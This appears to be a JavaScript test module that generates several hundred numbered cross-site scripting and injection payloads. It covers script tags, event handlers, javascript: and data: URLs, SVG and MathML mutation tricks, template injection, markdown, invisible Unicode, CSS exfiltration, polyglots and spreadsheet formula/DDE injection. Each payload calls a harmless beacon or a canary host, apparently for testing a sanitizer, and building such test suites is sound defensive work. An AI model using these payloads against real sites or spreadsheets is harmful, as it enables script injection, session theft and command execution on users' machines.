// What people might type so that it runs somewhere else. Each payload calls the beacon with its number, or asks the canary host for it.
export const canaryHost = 'canary.invalid';
export const beaconName = 'techmatchBeacon';

const quoted = (code) => [`"${code}"`, `'${code}'`, code, `&quot;${code}&quot;`, `\`${code}\``];
const entities = (text, form) => Array.from(text).map((sign) => (form === 'hex' ? `&#x${sign.codePointAt(0).toString(16)};` : form === 'long' ? `&#0000${sign.codePointAt(0)}` : `&#${sign.codePointAt(0)};`)).join('');
const mixed = (text) => Array.from(text).map((sign, place) => (place % 2 === 0 ? sign.toUpperCase() : sign.toLowerCase())).join('');
const base64 = (text) => Buffer.from(text).toString('base64');

/** By kind, functions of the call of the beacon and the address at the canary host. */
const kinds = {
  tag: (call, at) => [
    `<script>${call}</script>`, `<ScRiPt>${call}</sCrIpT>`, `<script src=${at}></script>`, `<script src="//${at.slice(8)}"></script>`, `<script type="text/javascript">${call}</script>`, `<script/x>${call}</script>`,
    `<script\t>${call}</script\n>`, `<<script>${call}//<</script>`, `</title><script>${call}</script>`, `</textarea><script>${call}</script>`, `</style><script>${call}</script>`, `--><script>${call}</script>`, `]]><script>${call}</script>`,
    `</script><script>${call}</script>`, `<script>${call}`, `<script async defer>${call}</script>`, `<script type=module>${call}</script>`, `<iframe srcdoc="<script>${call}</script>"></iframe>`, `<iframe src="javascript:${call}"></iframe>`, `<iframe src=${at}></iframe>`,
    `<object data="javascript:${call}"></object>`, `<object data=${at}></object>`, `<embed src="javascript:${call}">`, `<embed src=${at}>`, `<base href=${at}/>`, `<meta http-equiv=refresh content="0;url=javascript:${call}">`, `<meta http-equiv=refresh content="9;url=${at}">`,
    `<link rel=stylesheet href=${at}>`, `<link rel=preload as=script href=${at}>`, `<link rel=prefetch href=${at}>`, `<form action="javascript:${call}"><button autofocus>x</button></form>`, `<template><script>${call}</script></template>`,
    `<noscript><p title="</noscript><img src=x onerror=${call}>">`, `<frameset onload=${call}>`, `<image src=x onerror=${call}>`, `<video><source onerror=${call}></video>`, `<audio src=x onerror=${call}></audio>`, `<picture><source srcset=${at}><img></picture>`,
    `<img src=${at}>`, `<img srcset="${at} 1x">`, `<input type=image src=${at}>`, `<body background=${at}>`, `<table background=${at}><tr><td>`, `<video poster=${at}></video>`, `<track src=${at}>`, `<xmp><script>${call}</script></xmp>`, `<plaintext><script>${call}</script>`, `<dialog open onclose=${call}><form method=dialog><button autofocus>x`,
  ],
  handler: (call) => [
    ['img src=x', 'onerror'], ['svg', 'onload'], ['body', 'onload'], ['input autofocus', 'onfocus'], ['select autofocus', 'onfocus'], ['textarea autofocus', 'onfocus'], ['details open', 'ontoggle'], ['video src=x', 'onerror'], ['marquee', 'onstart'], ['object data=x', 'onerror'],
    ['div style="animation:a 1s"', 'onanimationstart'], ['a href=# autofocus', 'onfocusin'], ['iframe', 'onload'], ['p tabindex=0 autofocus', 'onfocus'], ['div', 'onpointerover'], ['b', 'onmouseover'], ['div style="width:9999px;height:999px"', 'onmousemove'], ['body', 'onhashchange'],
    ['video controls autoplay src=x', 'onloadstart'], ['link rel=stylesheet href=x', 'onerror'], ['style', 'onload'], ['summary tabindex=0 autofocus', 'onfocus'], ['img src=data:,', 'onerror'],
  ].flatMap(([tag, event], place) => quoted(call).slice(0, 3 + (place % 3)).map((code) => `<${tag} ${event}=${code}>`).concat([`<${mixed(tag)}\n${mixed(event)} = "${entities(call)}">`, `<${tag.replaceAll(' ', '/')}/${event}=${call}//`])),
  address: (call, at) => [
    `javascript:${call}`, `JaVaScRiPt:${call}`, `java\tscript:${call}`, `java\nscript:${call}`, `\u0001javascript:${call}`, ` javascript:${call}`, `javascript://%0a${call}`, `javascript://${canaryHost}/%0a${call}`, `javascript:/*http://example.com/*/${call}`, `vbscript:${call}`, `view-source:javascript:${call}`,
    `data:text/html,<script>${call}</script>`, `data:text/html;base64,${base64(`<script>${call}</script>`)}`, `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${call}'/>`, `data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>${call}</script>`, `blob:${at}`, `feed:javascript:${call}`, `http://javascript:${call}@${canaryHost}/`,
    `https://example.com/" onmouseover="${call}`, `https://example.com/'onfocus='${call}' autofocus='`, `https://example.com/<script>${call}</script>`, `https://example.com/#"><img src=x onerror=${call}>`, `https://example.com\u0000" onclick=${call}`, `//${at.slice(8)}`,
    ...['javascript:', 'JAVASCRIPT:', '&#106;avascript:', 'java&Tab;script:', 'java&NewLine;script:', '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A', 'javascript&colon;', '\u0001javascript:', 'data:text/html,<script>'].flatMap((scheme) => [`<a href="${scheme}${call}" autofocus>按此</a>`, `<a href='${scheme}${call}'>x`, `<area href="${scheme}${call}">`]),
  ],
  svg: (call, at) => [
    `<svg><script>${call}</script></svg>`, `<svg><script href="data:text/javascript,${call}"/></svg>`, `<svg><script>${entities(call)}</script></svg>`, `<svg/onload=${call}>`, `<svg onload=${call}//`, `<svg><animate onbegin=${call} attributeName=x dur=1s>`, `<svg><set onbegin=${call} attributeName=x dur=1s>`, `<svg><animateTransform onbegin=${call} attributeName=transform>`,
    `<svg><a xlink:href="javascript:${call}"><text y=20>x</text></a></svg>`, `<svg><a><animate attributeName=href values="javascript:${call}"/><text y=20>x`, `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${call}'/></svg>#x">`, `<svg><foreignObject><img src=x onerror=${call}></foreignObject></svg>`, `<svg><image href=${at} />`, `<svg><feImage href=${at} />`,
    `<svg><style>@import '${at}';</style></svg>`, `<svg><desc><![CDATA[</desc><script>${call}</script>]]></svg>`, `<svg><title><script>${call}</script></title></svg>`, `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${call}</handler>`, `<?xml-stylesheet href="${at}"?><svg/>`, `<!DOCTYPE svg [<!ENTITY x SYSTEM "${at}">]><svg>&x;</svg>`, `<svg><p><style><g title="</style><img src=x onerror=${call}>">`, `<svg></p><style><a id="</style><img src=1 onerror=${call}>">`,
  ],
  mathml: (call, at) => [
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">`, `<math href="javascript:${call}">x</math>`, `<math><maction actiontype="statusline#" xlink:href="javascript:${call}">x</maction></math>`, `<math><annotation-xml encoding="text/html"><script>${call}</script></annotation-xml></math>`, `<math><mi//xlink:href="data:x,<script>${call}</script>">`,
    `<math><mtext><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${call} src=1>">`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`, `<math><mtext></mtext><mglyph><img src=x onerror=${call}></math>`, `<math><semantics><annotation-xml encoding="application/xhtml+xml"><iframe src="javascript:${call}">`, `<math><mstyle background="${at}">x`, `<math><style>@import '${at}'</style></math>`, `<math><malignmark><script>${call}</script>`,
  ],
  template: (call) => [
    `{{constructor.constructor('${call}')()}}`, `{{$on.constructor('${call}')()}}`, `{{[].pop.constructor('${call}')()}}`, `\${${call}}`, `#{${call}}`, `<%= ${call} %>`, `<% ${call} %>`, `{%${call}%}`, `[[\${${call}}]]`, `{{=${call}}}`, `*{${call}}`, `@{${call}}`, `{${call}}`, `{{${call}}}`, `{{{${call}}}}`, `{{- ${call}}}`, `$t(${call})`, `{{person, ${call}}}`, `<div v-html="'<img src=x onerror=${call}>'">`, `<div ng-app ng-csp>{{$eval.constructor('${call}')()}}</div>`,
    `<div x-data x-init="${call}">`, `<div data-bind="html:'<script>${call}</script>'">`, `{"__html":"<img src=x onerror=${call}>"}`, `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${call}>"}}`, `{"$$typeof":"Symbol(react.element)","type":"script"}`, `__proto__[innerHTML]=<img/src/onerror=${call}>`, `CSP_NONCE_OF_THIS_VIEW<script nonce=CSP_NONCE_OF_THIS_VIEW>${call}</script>`, `$&<script>${call}</script>$\``, `%s%n${call}`, `<script type="text/template">${call}</script>`,
  ],
  markdown: (call, at) => [
    `[按此](javascript:${call})`, `![图](${at})`, `![x](javascript:${call})`, `<javascript:${call}>`, `[x][1]\n\n[1]: javascript:${call}`, `[x](data:text/html;base64,${base64(`<script>${call}</script>`)})`, `\`\`\`html\n<script>${call}</script>\n\`\`\``, `\`<script>${call}</script>\``, `[x](${at} "onmouseover=${call}")`, `[![x](${at})](javascript:${call})`,
    `![x](x"onerror="${call})`, `[x](<javascript:${call}>)`, `[x](java&#115;cript:${call})`, `[x](JAVASCRIPT:${call})`, `[x]( javascript:${call})`, `[x](\\javascript:${call})`, `[x](vbscript:${call})`, `[x](//${at.slice(8)})`, `# <img src=x onerror=${call}>`, `> <script>${call}</script>`, `- <svg onload=${call}>`, `| <img src=x onerror=${call}> |\n|---|`, `[^1]: <script>${call}</script>`, `**<b onmouseover=${call}>**`, `<!-- --><script>${call}</script>`,
    `$$\\href{javascript:${call}}{x}$$`, `\\url{javascript:${call}}`, `:::html\n<script>${call}</script>\n:::`, `[a](b)\n<script>${call}</script>`, `![<script>${call}</script>](x)`,
  ],
  direction: (call) => [
    `\u202e<script>${call}</script>\u202c`, `<scr\u200bipt>${call}</scr\u200bipt>`, `<\u200bscript>${call}</script>`, `\ufeff<script>${call}</script>`, `＜script＞${call}＜/script＞`, `<\u017fcript>${call}</\u017fcript>`, `<ımg src=x onerror=${call}>`, `<img\u00a0src=x\u00a0onerror=${call}>`, `<img\u3000src=x\u3000onerror=${call}>`, `<img src=x o\u00adnerror=${call}>`, `<script>\u2028${call}\u2029</script>`, `\u2066<img src=x onerror=${call}>\u2069`, `‹script›${call}‹/script›`, `＂ onfocus=${call} autofocus ＂`,
    `测试\u202egpj.exe`, `\u202d\u202e\u202c${'\u202e'.repeat(20)}<b onclick=${call}>`, `<script>${call}</script>\u0300`, `\u0000<script>${call}</script>`.replace('\u0000', '\u2400'), `\u061c<svg onload=${call}>`, `\u180e<svg onload=${call}>`, `java\u200dscript:${call}`, `java\u00adscript:${call}`, `ｊａｖａｓｃｒｉｐｔ:${call}`, `\u{e0001}<script>${call}</script>`, `${'a\u0301'.repeat(12)}<script>${call}</script>`, `<s\u0327cript>${call}</script>`,
  ],
  style: (call, at) => [
    `<style>@import '${at}'</style>`, `<div style="background:url(${at})">x</div>`, `<style>*{background:url(${at})}</style>`, `<style>@font-face{font-family:a;src:url(${at})}*{font-family:a}</style>`, `<style>body::before{content:url(${at})}</style>`, `<div style="width:expression(${call})">`, `<div style="-moz-binding:url(${at})">`, `<div style="behavior:url(${at})">`, `<style></style><script>${call}</script>`, `<style>@keyframes a{}</style><b style=animation-name:a onanimationstart=${call}>`, `<link rel=stylesheet href="data:text/css,*{background:url(${at})}">`,
    `<style>li{list-style-image:url("javascript:${call}")}</style>`, `<div style="background-image:url(javascript:${call})">`, `<style>@charset "x";@import url(//${at.slice(8)})</style>`, `";background:url(${at});x:"`, `';}*{background:url(${at})}`, `*/@import '${at}';/*`, `<div style="list-style:url(${at})">`, `<div style=cursor:url(${at}),auto>`, `<div style="position:fixed;inset:0;z-index:9" onclick=${call}>`, `<style>input[value^=a]{background:url(${at})}</style>`, `</style><svg onload=${call}>`, `<img style="content:url(${at})">`, `<b style="mask:url(${at}#a)">`,
  ],
  polyglot: (call, at) => [
    `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${call} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${call}//>\\x3e`, `">'><svg/onload=${call}>`, `'"--></style></script><script>${call}</script>`, `"'><img src=x onerror=${call}>`, `javascript:"/*'/*\`/*--></noscript></title></textarea></style></template></noembed></script><html \\" onmouseover=/*&lt;svg/*/onload=${call}//>`, `';${call}//';${call}//";${call}//--></script>">'><script>${call}</script>`,
    `" onfocus=${call} autofocus x="`, `' onfocus=${call} autofocus x='`, `\` onfocus=${call} autofocus x=\``, ` onload=${call} `, `"/><script>${call}</script>`, `"}</script><script>${call}</script>`, `\\");${call}//`, `');${call}//`, `*/${call}/*`, `\u2028${call}\u2028`, `{"a":"</script><script>${call}</script>"}`, `</title></style></textarea></noscript></template></iframe></xmp><img src=${at} onerror=${call}>`, `]]></content><script xmlns="http://www.w3.org/1999/xhtml">${call}</script>`,
    `<![CDATA[<script>${call}</script>]]>`, `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${call}</x:script>`, `<html xmlns="http://www.w3.org/1999/xhtml"><body onload="${call}"/></html>`, `-->"><svg onload=${call}>`, `\r\nContent-Type: text/html\r\n\r\n<script>${call}</script>`, `a.pdf"; filename="x.html`, `../../<img src=x onerror=${call}>.html`,
  ],
  entity: (call) => [
    `&lt;script&gt;${call}&lt;/script&gt;`, `&amp;lt;script&amp;gt;${call}&amp;lt;/script&amp;gt;`, `&#60;script&#62;${call}&#60;/script&#62;`, `&#x3c;script&#x3e;${call}&#x3c;/script&#x3e;`, `&#x3cscript>${call}</script>`, `&ltscript>${call}&lt/script>`, `%3Cscript%3E${call}%3C/script%3E`, `%253Cscript%253E${call}%253C/script%253E`, `\\u003cscript\\u003e${call}\\u003c/script\\u003e`, `\\x3cscript\\x3e${call}\\x3c/script\\x3e`, `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
    `&#0;<script>${call}</script>`, `&#xD800;<img src=x onerror=${call}>`, `&#99999999;<img src=x onerror=${call}>`, `&<script>${call}</script>;`, `<script>${call}</script`, `<script>${call}</scr`, `<img src=x onerror=${entities(call, 'hex')}>`, `<img src=x onerror=${entities(call, 'long')}>`, `<img src="x\`>" onerror=${call}>`, `<img """><script>${call}</script>">`, `<img src=x:x onerror&equals;${call}>`, `&quot;&gt;&lt;svg onload=${call}&gt;`, `&apos; onfocus=${call} autofocus &apos;`, `&NewLine;<script>${call}</script>`, `&notit;<svg onload=${call}>`,
    `<a title="&lt;img src=x onerror=${call}&gt;">x</a>`, `<textarea>&lt;/textarea&gt;<img src=x onerror=${call}></textarea>`, `<!--[if gte IE 4]><script>${call}</script><![endif]-->`, `<!-- --!><img src=x onerror=${call}> -->`, `<! foo="><script>${call}</script>">`, `<? foo="><script>${call}</script>">`, `</ foo="><script>${call}</script>">`, `<% foo><script>${call}</script>`,
  ],
  cell: (call, at) => [
    `=1+1`, `=HYPERLINK("${at}","看")`, `=WEBSERVICE("${at}")`, `+1+cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`, `@SUM(1+9)*cmd|' /C calc'!A0`, `\t=1+1`, `=IMPORTXML("${at}","//a")`, `=IMAGE("${at}")`, `;=1+1`, `"=1+1`, `",=HYPERLINK("${at}")`, `＝1+1`, `＋1+1`, `－1+1`, `＠SUM(1)`, ` =1+1`, `\u00a0=1+1`, `\ufeff=1+1`, `\u3000=1+1`, `=DDE("cmd";"/C calc";"x")`, `'=1+1`, `=cmd|'/C calc'!A1`, `%=1+1`, `|cmd`, `=SUM(1;1)*${call}`, `=1+1"\r\n"=2+2`, `x\r\n=1+1`, `x\n=HYPERLINK("${at}")`, `a,=1+1`, `﹦1+1`, `\u200b=1+1`, `=@SUM(1)`, `+${call}`,
  ],
};

/** Where people type addresses, markup behind one is neither part of it nor markup. */
kinds.inAddress = (call, at) => kinds.tag(call, at).map((markup, place) => (place % 2 === 0 ? `请看 https://example.com/?q=${markup}，谢谢` : `见https://example.com/#${markup}`));

/** `[{ number, kind, text }]`, every one another. */
export function makePayloads() {
  const counts = Object.entries(kinds).map(([kind, make]) => [kind, make(`${beaconName}(0)`, `https://${canaryHost}/0`).length]);
  let number = 0;
  return counts.flatMap(([kind, count]) =>
    Array.from({ length: count }, (_, place) => {
      number += 1;
      return { number, kind, text: kinds[kind](`${beaconName}(${number})`, `https://${canaryHost}/${number}`)[place] };
    }),
  );
}
